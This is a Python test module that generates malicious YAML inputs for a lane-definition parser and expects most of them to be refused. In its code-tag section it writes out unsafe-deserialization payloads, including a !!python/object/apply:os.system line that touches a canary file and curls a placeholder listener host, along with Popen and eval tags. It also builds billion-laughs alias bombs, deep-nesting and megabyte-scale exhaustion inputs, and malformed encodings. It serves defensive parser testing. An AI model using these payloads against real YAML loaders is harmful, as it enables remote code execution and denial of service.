"""Bad lanes as YAML: what the text can do to whoever reads it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final

from tests.bad_input.attack import CANARY_FILE, LISTENER, Attack, Expected, octets, text
from tests.unit.definition.examples import HEAD, lane_text, task

GOOD: Final = lane_text(task("check"))
_MEGABYTE: Final = 990_000


def lane(what: str, content: str | bytes | Callable[[], bytes], expected: Expected = Expected.REFUSED) -> Attack:
    """A bad lane."""
    if isinstance(content, str):
        content = text(content)
    elif isinstance(content, bytes):
        content = octets(content)
    return Attack("lane", what, "bad.yaml", content, expected)


def with_field(value: str) -> str:
    """A good lane but for a field that it has beside the others."""
    return f"{GOOD}description: {value}\n"


def lanes() -> Iterator[Attack]:
    """Every bad lane, and some that are good."""
    yield lane("good", GOOD, Expected.TAKEN)
    yield lane("good with a byte-order mark", b"\xef\xbb\xbf" + GOOD.encode(), Expected.TAKEN)
    yield lane("good with lines of Windows", GOOD.replace("\n", "\r\n"), Expected.TAKEN)
    yield from _code()
    yield from _bombs()
    yield from _depths()
    yield from _encodings()
    yield from _scalars()
    yield from _many()


def _code() -> Iterator[Attack]:
    ran = f"touch {CANARY_FILE}.ran; curl http://{LISTENER}/"
    for what, value in {
        "object that is called": f"!!python/object/apply:os.system ['{ran}']",
        "object that is made": "!!python/object:subprocess.Popen {args: [id]}",
        "object with a state": "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval [], ['1']]]",
        "name of a function": "!!python/name:os.system",
        "module that is loaded": "!!python/module:antigravity",
        "bytes": "!!binary R0lGODlhAQABAIAAAAAAAP",
        "set": "!!set {a, b}",
        "date by tag": "!!timestamp 2001-12-14",
        "tag of its own": "!mine {zh: a, en: b}",
        "verbatim tag": f"!<http://{LISTENER}/schema> a",
        "file to include": f"!include {CANARY_FILE}",
        "variable of the environment": "!ENV ${HOME}",
    }.items():
        yield lane(f"tag, {what}", with_field(value))
    yield lane("tag by a directive", f"%TAG ! tag:yaml.org,2002:python/\n---\n{with_field('!name:os.system')}")
    yield lane("field that asks for a file", with_field(f"{{zh: 'file://{CANARY_FILE}', en: 'http://{LISTENER}/'}}"),
               Expected.TAKEN)  # fmt: skip
    yield lane("reference as in JSON Schema", GOOD + f"$ref: 'file://{CANARY_FILE}'\n")


def _bombs() -> Iterator[Attack]:
    laughs = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    laughs += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 20)]
    yield lane("aliases of aliases", "\n".join(laughs) + "\n")
    yield lane("aliases of aliases in fields", GOOD + "assumptions:\n" + "\n".join(f"  {each}" for each in laughs))
    yield lane("aliases of one large list", f"a: &a [{'x, ' * 20_000}]\nb: [{'*a, ' * 20_000}]\n")
    yield lane("alias of itself", "a: &a [*a]\n")
    yield lane("alias of the whole", f"--- &all\n{GOOD}description: *all\n")
    yield lane("alias of nothing", with_field("*nothing"))
    yield lane("merge key", "x: &x {id: a}\n" + GOOD + "<<: *x\n")
    yield lane("merge key of many", "x: &x {a: b}\n<<: [" + "*x, " * 100_000 + "]\n")
    yield lane("merge key of itself", "a: &a {<<: *a}\n")
    yield lane("anchors by the thousand", "[" + ", ".join(f"&a{n} x" for n in range(80_000)) + "]")
    assumed = "assumptions:\n  a: {assumed: b}\n  b: {assumed: a}\n"
    yield lane("assumptions in a circle", GOOD + assumed + "description: {assumed: a}\n")
    doubling = "".join(f"  a{n}: {{zh: {{assumed: a{n + 1}}}, en: {{assumed: a{n + 1}}}}}\n" for n in range(30))
    yield lane("assumptions that double", f"{GOOD}assumptions:\n{doubling}  a30: x\ndescription: {{assumed: a0}}\n")


def _depths() -> Iterator[Attack]:
    for depth in (101, 900, 10_000, 300_000):
        yield lane(f"{depth} lists in each other", "[" * depth)
        yield lane(f"{depth} lists in each other, closed", "[" * depth + "]" * depth)
    yield lane("lists in each other, in lines", "- " * 400_000)
    yield lane("fields in each other", "{a: " * 200_000)
    yield lane("keys that are lists", "? " * 400_000)
    yield lane("keys that are fields", "{" * 300_000)
    yield lane("indents by the thousand", "\n".join(" " * n + "a:" for n in range(1_300)))
    blocks = task("a")
    for _ in range(40):
        blocks = f"{{kind: sequence, steps: [{blocks}]}}"
    yield lane("forty sequences in each other", lane_text(blocks), Expected.EITHER)
    asked = "{attribute: risk, in: [low]}"
    for _ in range(45):
        asked = f"{{not: {asked}}}"
    yield lane("forty-five conditions in each other", f"{HEAD}sealed: {asked}\nbody: {task('a')}\n", Expected.EITHER)


def _encodings() -> Iterator[Attack]:
    chinese = GOOD.replace("zh: 甲", "zh: 营业执照")
    for encoding in ("utf-16", "utf-16-be", "utf-32", "gb18030"):
        yield lane(f"in {encoding}", chinese.encode(encoding))
    yield lane("in Latin-1", GOOD.replace("甲", "é").replace("乙", "è").encode("latin-1"))
    yield lane("in UTF-7", b"+/v8-" + chinese.encode("utf-7"))
    yield lane("surrogate in UTF-8", GOOD.replace("甲", "\ud800"))
    yield lane("surrogate escaped", with_field(r'{zh: "\ud800", en: "\ud800\udc00"}'))
    yield lane("overlong UTF-8", GOOD.encode().replace(b"zh", b"\xc1\xba\xc1\xa8"))
    yield lane("cut off inside a character", GOOD.encode()[: GOOD.encode().index("甲".encode()) + 1])
    yield lane("null byte", GOOD.replace("甲", "a\0b"))
    yield lane("null byte escaped", with_field(r'{zh: "a\0b", en: a}'))
    yield lane("null bytes alone", b"\0" * _MEGABYTE)
    yield lane("bell and escape", GOOD.replace("甲", "\a\x1b[31m"))
    yield lane("nothing", b"")
    yield lane("byte-order mark alone", b"\xef\xbb\xbf")
    yield lane("spaces alone", " " * _MEGABYTE)
    yield lane("lines alone", "\n" * _MEGABYTE)
    yield lane("comments alone", "#\n" * (_MEGABYTE // 2))
    yield lane("a program", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 100)
    yield lane("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100)
    yield lane("a ZIP", b"PK\x03\x04" + bytes(range(256)) * 100)
    yield lane("right-to-left marks", with_field('{zh: "\u202egnp.exe", en: a}'), Expected.EITHER)


def _scalars() -> Iterator[Attack]:
    yield lane("a megabyte as one word", with_field("{zh: " + "a" * _MEGABYTE + ", en: a}"))
    yield lane("a megabyte of words", with_field('{zh: "' + "a " * (_MEGABYTE // 2) + '", en: a}'))
    yield lane("a megabyte of lines in one text", with_field("|\n" + "  a\n" * (_MEGABYTE // 4)))
    yield lane("a megabyte of folded lines", with_field(">\n" + "  a\n\n" * (_MEGABYTE // 5)))
    yield lane("a megabyte without an end", 'id: "' + "a" * _MEGABYTE)
    yield lane("a megabyte as a key", "a" * _MEGABYTE + ": 1\n")
    yield lane("a megabyte as a number", "format: " + "9" * _MEGABYTE)
    yield lane("a megabyte as a fraction", "format: 1." + "9" * _MEGABYTE)
    yield lane("a megabyte as an anchor", "format: &" + "a" * _MEGABYTE + " 1")
    yield lane("a megabyte as a tag", "format: !" + "a" * _MEGABYTE + " 1")
    yield lane("a megabyte of quotes", "'" * _MEGABYTE)
    yield lane("a megabyte of escapes", 'id: "' + r"\x41" * (_MEGABYTE // 4) + '"')
    yield lane("a megabyte of directives", "%a\n" * (_MEGABYTE // 3))
    yield lane("six megabytes", b"a" * 6_000_000)
    yield lane("six hundred megabytes", lambda: b"a" * 600_000_000)


def _many() -> Iterator[Attack]:
    yield lane("documents by the thousand", "---\n" * (_MEGABYTE // 4))
    yield lane("empty entries", "- \n" * (_MEGABYTE // 3))
    yield lane("colons", ": " * (_MEGABYTE // 2))
    yield lane("unknown fields by the thousand", GOOD + "".join(f"unknown{n}: 1\n" for n in range(20_000)))
    yield lane("the same field by the thousand", "id: a\n" * 40_000)
    yield lane("wrong entries by the thousand", GOOD + "limits: [" + "x, " * 45_000 + "]\n")
    yield lane("wrong steps by the thousand", lane_text(f"{{kind: sequence, steps: [{'{kind: task}, ' * 8_000}]}}"))
    yield lane("steps of no kind by the thousand", lane_text(f"{{kind: sequence, steps: [{'{kind: x}, ' * 15_000}]}}"))
    yield lane("steps of the same name", lane_text(f"{{kind: sequence, steps: [{(task('a') + ', ') * 2_000}]}}"))
